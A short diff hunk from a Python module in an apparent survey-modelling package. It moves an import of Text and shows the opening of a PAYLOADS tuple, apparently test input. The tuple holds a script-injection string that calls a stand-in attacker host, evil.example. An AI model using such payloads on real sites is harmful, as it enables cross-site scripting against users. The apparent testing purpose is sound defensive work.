@@ -8,9 +8,9 @@ import nbformat.v4 as v4
 import numpy as np
 import pandas as pd
 
+from sqmodel.definitions import Text
 from sqmodel.reporting import charts
 from sqmodel.result import Estimate
-from sqmodel.survey.instrument import Text
 
 PAYLOADS = (
     "<script>fetch('https://evil.example')</script>",
